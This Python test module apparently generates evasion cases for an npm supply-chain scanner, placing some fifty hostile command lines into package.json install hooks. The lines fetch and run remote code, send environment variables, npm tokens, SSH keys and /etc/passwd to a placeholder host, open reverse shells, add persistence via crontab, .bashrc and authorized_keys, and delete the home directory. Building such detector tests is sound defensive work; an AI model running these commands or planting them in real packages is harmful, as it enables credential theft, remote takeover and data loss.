"""Command lines of npm's hooks."""

from tests.combinations.parts import ADDRESS, FETCHED, HOST, Plan
from tests.evasions.case import Case, package

_LINES = {
    "piped": f"curl -s {FETCHED} | sh",
    "piped-with-words": f"curl -fsSL {FETCHED} | bash -s -- x",
    "piped-by-wget": f"wget -qO- {FETCHED} | sh",
    "piped-to-node": f"curl {FETCHED} | node",
    "piped-as-root": f"curl {FETCHED} | sudo bash",
    "unpacked": f"curl {FETCHED} | gunzip | sh",
    "decoded": f"curl {FETCHED} | base64 -d | bash",
    "in-brackets": f'sh -c "$(curl -fsSL {FETCHED})"',
    "as-a-file": f"bash <(curl -s {FETCHED})",
    "saved": f"curl {FETCHED} -o /tmp/a && sh /tmp/a",
    "saved-for-node": f"curl {FETCHED} -o a && node a",
    "saved-and-made-executable": f"wget {FETCHED} -O /tmp/a; chmod +x /tmp/a; /tmp/a",
    "redirected": f"curl {FETCHED} > /tmp/a && bash /tmp/a",
    "out-of-sight": f"(curl {FETCHED} | sh) >/dev/null 2>&1 &",
    "after-what-fails": f"true || curl {FETCHED} | sh",
    "in-node": f"node -e \"require('child_process').exec('curl {FETCHED} | sh')\"",
    "evaluated-in-node": f"node -e \"fetch('{FETCHED}').then(r => r.text()).then(eval)\"",
    "in-python": f"python3 -c \"import urllib.request as u;exec(u.urlopen('{FETCHED}').read())\"",
    "in-php": f"php -r \"eval(file_get_contents('{FETCHED}'));\"",
    "in-perl": f"perl -e 'system(\"curl {FETCHED}|sh\")'",
    "powershell": f"powershell -Command \"(New-Object Net.WebClient).DownloadFile('{FETCHED}','a.exe');Start-Process a.exe\"",
    "encoded": "powershell -w hidden -enc SQBFAFgA",
    "certutil": f"certutil -urlcache -f {FETCHED} a.exe && a.exe",
    "mshta": f"mshta {FETCHED}",
    "package-of-an-address": f"npx --yes {FETCHED}.tgz",
    "script-of-an-address": f"deno run -A {FETCHED}.ts",
    "environment": f'curl -d "$(env)" {ADDRESS}',
    "environment-piped": f"env | curl -X POST --data-binary @- {ADDRESS}",
    "who": f"curl {ADDRESS}/?h=$(hostname)&u=$(whoami)",
    "npmrc": f"curl -F f=@$HOME/.npmrc {ADDRESS}",
    "npmrc-encoded": f"cat ~/.npmrc | base64 | curl -d @- {ADDRESS}",
    "ssh-key": f"curl -T ~/.ssh/id_rsa {ADDRESS}",
    "ssh-folder": f"tar czf - ~/.ssh | curl --data-binary @- {ADDRESS}",
    "accounts": f'wget --post-data="$(cat /etc/passwd)" {ADDRESS}',
    "token-header": f'curl -H "x: $NPM_TOKEN" {ADDRESS}',
    "token-query": f'curl "{ADDRESS}?t=$NPM_TOKEN"',
    "token-of-a-program": f"gh auth token | curl -d @- {ADDRESS}",
    "tokens-of-npm": f"npm token list | curl -d @- {ADDRESS}",
    "history": f"history | curl -d @- {ADDRESS}",
    "name-server": f"nslookup $(whoami).{HOST}",
    "ping": f"ping -c 1 $(hostname).{HOST}",
    "connection": f"printenv | nc {HOST} 443",
    "shell-connected": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "shell-handed-over": "nc -e /bin/sh 203.0.113.9 4444",
    "scheduled": f"echo '* * * * * curl {FETCHED}|sh' | crontab -",
    "profile": f"echo 'curl {FETCHED}|sh' >> ~/.bashrc",
    "key-authorized": "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
    "registry": f"npm config set registry {ADDRESS}",
    "git-everywhere": "git config --global core.hooksPath /tmp/x",
    "home-deleted": "rm -rf $HOME",
    "published": "npm publish",
}
_BETWEEN = {"alone": "LINE", "after-another": "node index.js && LINE"}
_HOOKS = {name: name for name in ("preinstall", "install", "postinstall")}


def _make(id_: str, _place: str, begin: str, middle: str, end: str) -> Case:
    manifest = package(scripts={end: middle.replace("LINE", begin)})
    return Case(id_, "npm", {"package.json": manifest, "index.js": "module.exports = 1;\n"})


PLAN = Plan("npm-hook", _LINES, _BETWEEN, _HOOKS, ("line",), _make)
